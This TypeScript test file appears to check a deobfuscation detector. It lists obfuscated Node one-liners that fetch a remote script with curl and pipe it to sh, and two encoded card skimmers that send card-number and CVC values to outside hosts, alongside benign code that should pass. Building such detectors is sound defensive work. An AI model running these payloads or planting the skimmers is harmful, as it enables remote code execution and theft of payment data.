import { deobfCases, enc } from "./_deobf_testing.ts";

const PAY = "require('child_process').execSync('curl -s http://198.51.100.7/j|sh')";

deobfCases("javascript", [
  {
    id: "decoded",
    block: [
      `node -e "Function(atob('${enc.b64(PAY)}'))()"`,
      `node -e "eval(String.fromCharCode(${enc.codes(PAY)}))"`,
      `node -e "eval(Buffer.from('${enc.hex(PAY)}','hex').toString())"`,
      `node -e "eval('${enc.rev(PAY).replaceAll("'", "\\\\'")}'.split('').reverse().join(''))"`,
      `node -e "var _0x3f1a=['child_process','execSync','curl -s http://198.51.100.7/j|sh'];require(_0x3f1a[0])[_0x3f1a[1]](_0x3f1a[2])"`,
      `node -e "require('child_'+'process')['ex'+'ecSync']('curl -s http://198.51.100.7/j|sh')"`,
      `node -e "new Function(atob(process.argv[2]))()" payload`,
      `node -e "global['ev'+'al'](atob('${enc.b64(PAY)}'))"`,
      `node -e "eval('${[...PAY].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join("")}')"`,
    ],
    pass: [
      `document.addEventListener('keydown', e => console.log(String.fromCharCode(e.keyCode)))`,
      `const img = Buffer.from(data, 'base64'); fs.writeFileSync('out.png', img)`,
      `console.log("\\x1b[31merror\\x1b[0m")`,
      `const reversed = str.split('').reverse().join('');`,
      `const label = 'Total: ' + count + ' items';`,
      `const t = atob('eyJhbGciOiJIUzI1NiJ9'); console.log(JSON.parse(t))`,
    ],
  },
  {
    // A card skimmer whose selectors, sender and URL are char codes (an appsec rule on the view).
    id: "decoded",
    block: [
      `<script>var w=window,d=document,u=String.fromCharCode(${
        enc.codes("https://px.stat-edge.net/b")
      });
d.addEventListener('submit',function(){var v=d.querySelector(String.fromCharCode(${
        enc.codes("#card-number")
      })).value;
w[String.fromCharCode(${enc.codes("navigator")})][String.fromCharCode(${
        enc.codes("sendBeacon")
      })](u,v);},true);</script>`,
      `<script>var k=[String.fromCharCode(${enc.codes("[name=cvc]")})],h=String.fromCharCode(${
        enc.codes("https://cdn.fontpack.io/f")
      });
document.forms[0].addEventListener('change',function(){fetch(h,{method:'POST',body:document.querySelector(k[0]).value});});</script>`,
    ],
    pass: [
      `<script>var l=String.fromCharCode(${enc.codes("#card-number")});
document.addEventListener('submit',function(){document.querySelector(l).classList.add('checked');});</script>`,
      `<script>var u=String.fromCharCode(${enc.codes("/api/checkout")});
form.addEventListener('submit',function(){fetch(u,{method:'POST',body:new FormData(form)});});</script>`,
    ],
  },
]);
